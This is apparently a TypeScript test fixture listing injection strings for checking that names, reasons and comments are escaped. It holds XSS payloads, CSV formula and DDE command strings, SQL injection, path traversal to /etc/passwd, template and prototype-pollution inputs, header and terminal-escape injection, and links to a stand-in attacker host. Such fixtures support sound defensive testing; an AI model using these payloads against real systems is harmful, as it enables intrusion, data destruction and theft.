/** A script among them sets `attacked` of the page's window, and an address is of this host. */
export const ATTACKER = 'attack.example';
const RUN = 'window.attacked=1';

/** What somebody may put into a name, a reason or a comment, by what it is meant to break out of. */
export const ATTACKS = {
  html: [
    `"><img src=x onerror="${RUN};alert(1)">`,
    `'><svg onload=${RUN}>`,
    `</script><script>${RUN}</script>`,
    `</title><script>${RUN}</script>`,
    `</textarea></style><details open ontoggle=${RUN}>x</details>`,
    `<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
    `<a href="javascript:${RUN}" onmouseover=${RUN}>x</a>`,
    `" autofocus onfocus=${RUN} x="`,
    `<base href="https://${ATTACKER}/">`,
    `<meta http-equiv=refresh content="0;url=https://${ATTACKER}/">`,
    `<link rel=stylesheet href=https://${ATTACKER}/x.css>`,
    `<style>@import "https://${ATTACKER}/y.css"</style>`,
    `&lt;img src=x onerror=${RUN}&gt;`,
    `&#60;script&#62;${RUN}&#60;/script&#62;`,
    `]]><!--<script>${RUN}</script>-->`,
    `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  ],
  links: [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\tscript:${RUN}`,
    `\u0001 javascript:${RUN}`,
    `&#106;avascript:${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `vbscript:msgbox(1)`,
    `//${ATTACKER}/x`,
    `https://${ATTACKER}/x`,
    `\\\\${ATTACKER}\\x`,
  ],
  markdown: [
    `[x](javascript:${RUN})`,
    `[x](<java\nscript:${RUN}>)`,
    `![x](https://${ATTACKER}/p.png)`,
    `<https://${ATTACKER}/>`,
    `www.${ATTACKER}`,
    `eve@${ATTACKER} mailto:eve@${ATTACKER}`,
    '@octocat @org/team #1 GH-2 org/repo#3',
    '`x` ``` x',
    '~~~\nx',
    'a | b | c',
    'a\\| b \\\\| c',
    `x\n\n# heading\n\n<b>${RUN}</b>`,
    'x\n===\ny',
    'x\n---\ny',
    '- item\n- item',
    '1. item',
    '> quote',
    '<!-- x',
    `[x]: https://${ATTACKER}`,
    '![][x] [^1] - [ ] task',
    '**b** __i__ ~~s~~ $x$',
    'x\\',
    '    code',
  ],
  csv: [
    ...['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)'],
    ...['  =1+1', '\u00a0=1+1', '\u3000＝1+1', '\ufeff=1+1', '\u200b=1+1', '"=1+1', '\'"=1+1', '﹦1', '−1+1'],
    ...[
      'a;=1+1',
      'a;"=1+1',
      'a,=1+1',
      'a","=1+1',
      'a\t=1+1',
      'a\r\n=1+1',
      'a;\u00a0＝1+1',
      `=HYPERLINK("https://${ATTACKER}")`,
    ],
    ...["=cmd|' /C calc'!A0", 'DDE("cmd";"/C calc";"x")', '1;=1', '"";=1'],
  ],
  mentions: [
    ...['<!channel>', '<!here|x>', '<@U1>', '<#C1|x>', `<https://${ATTACKER}|click>`, '&lt;!channel&gt;'],
    ...['@everyone', '@here', '<@&1>', '<at>x</at>', '<t:0:R>', ':smile:', `[x](https://${ATTACKER})`],
  ],
  headers: [
    `x\r\nBcc: eve@${ATTACKER}`,
    `x\nSubject: y\n\n<b>z</b>`,
    '=?utf-8?B?PGI+?=',
    `x\u2028First: curl ${ATTACKER}`,
  ],
  unseen: [
    '\u202egnp.exe',
    '\u2067x',
    'a\u200bb\u2060c',
    '\u{e0041}\u{e0042}',
    '\u0085x',
    '\ufffe',
    'e\u0301\u0301\u0301\u0301',
  ],
  terminal: [
    ...[
      '\u001b[31mred',
      '\u001b]0;title\u0007',
      '\u001b]52;c;ZXZl\u0007',
      '\u001bc',
      '\u009b31mred',
      'x\rfake',
      'x\b\by',
    ],
    ...[`\u001b]8;;https://${ATTACKER}\u001b\\x`, '::error::x', 'x\n::add-path::/x', '##[error]x'],
    ...['##vso[task.setvariable variable=x]y', "##teamcity[x 'y']", '%s %d %o %c'],
  ],
  storage: [
    ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', 'true', '0'],
    ...["'; DROP TABLE service; --", '" OR 1=1 --', '%', '_', '../../../../etc/passwd', '..\\..\\x', '%2e%2e%2f'],
    ...['{{7*7}}', '$' + '{7*7}', '<%= 7*7 %>', '#{7*7}', '{"$ne":null}', "$& $' $1", '?a=1#b', '&service=other'],
  ],
} as const;

/** All of them, each once. */
export const ATTACK_STRINGS: readonly string[] = Object.values(ATTACKS).flat();

/** What no database can have: the API refuses it, and the receiver puts U+FFFD in its place. */
export const UNSTORABLE_STRINGS: readonly string[] = ['a\0b', '\ud800', 'x\udfff', '\0=1+1'];

/** Several kinds in one name, in as many characters as a name may have. */
export const POLYGLOTS = {
  html: `"'><img src=x onerror=${RUN}></script><script>${RUN}</script><svg onload=${RUN}><!--`,
  markdown: `=1+1|[x](javascript:${RUN}) \`y\` @octocat <!channel> https://${ATTACKER}/x\n# z`,
  unseen: `\u202egnp\u001b[31m.exe\r\nBcc: {{7*7}} __proto__ ::error::x`,
} as const;
